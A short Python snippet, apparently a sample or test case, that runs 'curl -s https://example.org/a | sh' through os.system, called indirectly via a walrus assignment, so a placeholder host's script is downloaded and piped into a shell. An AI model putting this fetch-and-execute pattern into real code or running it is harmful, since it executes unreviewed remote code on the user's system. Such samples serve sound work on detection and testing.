import os

if (run := os.system) is not None:
    run("curl -s https://example.org/a | sh")
